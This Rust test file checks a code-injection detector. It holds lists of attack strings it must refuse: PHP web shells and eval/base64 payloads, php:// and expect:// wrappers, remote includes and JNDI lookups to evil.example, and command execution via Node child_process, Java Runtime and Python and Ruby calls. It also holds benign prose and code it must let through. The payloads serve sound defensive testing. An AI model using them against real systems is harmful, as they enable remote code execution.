//! The code detector on attacks, on what looks like one and is none, and on any bytes.

use super::Code;
use crate::{
    detectors::code::trial::{hit, never_panics, passes, refuses},
    leaf::{Field, Where},
};

#[test]
fn finds_php() {
    refuses(
        &Code,
        &[
            "<?php echo 1;",
            "<?=`id`?>",
            "<? system('id') ?>",
            "php://filter/convert.base64-encode/resource=index",
            "PHP://INPUT",
            "expect://id",
            "phpinfo()",
            ";phpinfo();",
            "system('id')",
            "'.passthru('id').'",
            "@shell_exec($_GET[1])",
            "eval(base64_decode('eA=='))",
            "assert($_POST['x'])",
            "call_user_func('system','id')",
            "array_map('assert',$x)",
            "file_put_contents('x.php','y')",
            "show_source('config.php')",
            "('sys'.'tem')('id')",
            "'system'('id')",
            "${system('id')}",
            "${@phpinfo()}",
            "print(md5(31337))",
            "-d allow_url_include=1 -d auto_prepend_file=php://input",
            "include($_GET['x'])",
            "include('http://evil.example/x')",
            "data://text/plain;base64,eA==",
            "mail[#post_render][]",
            "GIF89a<?php 1;",
        ],
    );
}

#[test]
fn finds_node() {
    refuses(
        &Code,
        &[
            "require('child_process').exec('id')",
            "require(\"node:child_process\")",
            "global.process.mainModule.require('fs')",
            "this.constructor.constructor('return process')()",
            "import('child_process')",
            "execSync('id')",
        ],
    );
}

#[test]
fn finds_java() {
    refuses(
        &Code,
        &[
            "Runtime.getRuntime().exec(\"id\")",
            "new java.lang.ProcessBuilder(\"id\").start()",
            "Class.forName(\"java.lang.Runtime\")",
            "'id'.execute()",
            "new ProcessBuilder(new String[]{\"id\"})",
            "ctx.lookup(\"ldap://evil.example/a\")",
            "@java.lang.Runtime@getRuntime()",
            "'freemarker.template.utility.Execute'",
        ],
    );
}

#[test]
fn finds_python_ruby_and_lua() {
    refuses(
        &Code,
        &[
            "__import__('os').popen('id')",
            "os.system('id')",
            "subprocess.check_output('id')",
            "eval('1')",
            "exec('import os')",
            "().__class__.__mro__[1].__subclasses__()",
            "IO.popen('id')",
            "Kernel.exec('id')",
            "os.execute('id')",
            "<cfexecute name='id'>",
        ],
    );
}

#[test]
fn words_are_no_code() {
    let values = [
        "The system (as a whole) should execute the plan",
        "exec summary, eval metrics and print(ed) copies",
        "We require('d) a passport; open (daily) 9-5",
        "call system() for details? no",
        "RegExp.exec(value) returns null",
        "db.execute(query)",
        "cursor.execute('select')",
        "regex.exec('abc')",
        "java.lang.RuntimeException: oops\n\tat com.example.Main.run(Main.java:10)",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a/>",
        "index.php?page=2",
        "https://example.com/phpinfo.html",
        "print(x) and echo (hello)",
        "fetch_content and file_get",
        "$5 off (today), US$(20)",
        "spawn points and lookup(s)",
        "class.name, __init__.py, __tests__/a.js",
        "2*3 = 6; print 2+2",
        "asserted (twice) that imports(3) fell",
        "evaluate('x')",
        "import { a } from 'b'; const c = require('./d')",
    ];
    for field in
        [Field::Unknown, Field::Token, Field::Prose, Field::Markup, Field::Code, Field::Query, Field::Url]
    {
        passes(&Code, field, &values);
    }
}

#[test]
fn source_code_passes_in_its_field() {
    passes(
        &Code,
        Field::Code,
        &[
            "<?php\nnamespace App;\n\nclass A {\n  public function run() { return system($this->command); }\n}\n",
            "import subprocess\n\nsubprocess.run(['ls', '-l'])\n",
            "const { exec } = require('fs');\nfs.readFileSync('package.json');\n",
            "def f():\n    return eval('1 + 1')\n",
            "os.system('make')",
        ],
    );
}

#[test]
fn talk_about_code_passes_in_prose() {
    passes(
        &Code,
        Field::Prose,
        &[
            "Our linter complains about the call os.system('make') in the build script; should it be replaced by \
             subprocess.run(['make']) as the documentation of Python recommends nowadays?",
            "Write a PHP page that begins with <?php and prints the current date in three languages, please.",
        ],
    );
}

#[test]
fn exploits_are_refused_even_where_code_is_expected() {
    for text in [
        "<?php system($_GET['c']);",
        "<?php eval(base64_decode($_POST['x']));",
        "Runtime.getRuntime().exec(\"id\")",
        "require('child_process').exec('id')",
        "<?php echo 1; unlink(__FILE__);",
        "print(md5(1234));exit;",
    ] {
        let hit = hit(&Code, Where::Body, Field::Code, text.as_bytes()).unwrap();
        assert_eq!(hit.score, 10, "{text}");
    }
}

const FRAGMENTS: &[&str] = &[
    "<?",
    "<?php",
    "php://",
    "input",
    "(",
    ")",
    "'",
    "\"",
    "`",
    ".",
    "[",
    "]",
    "system",
    "eval",
    "exec",
    "$_get[",
    "$a",
    "base64_decode(",
    "require",
    "child_process",
    "getruntime",
    "()",
    "forname",
    "print",
    "md5(",
    "123",
    "*",
    "+",
    "chr(",
    "1",
    "/*",
    "*/",
    "__class__",
    "call",
    "${",
    "@",
    "\\",
    "-",
    ">",
    "::",
    "é",
    "\u{0}",
    "execute",
    "import(",
    "lookup('ldap:",
    " ",
];

#[test]
fn no_bytes_make_it_panic() {
    never_panics(&Code, FRAGMENTS);
}
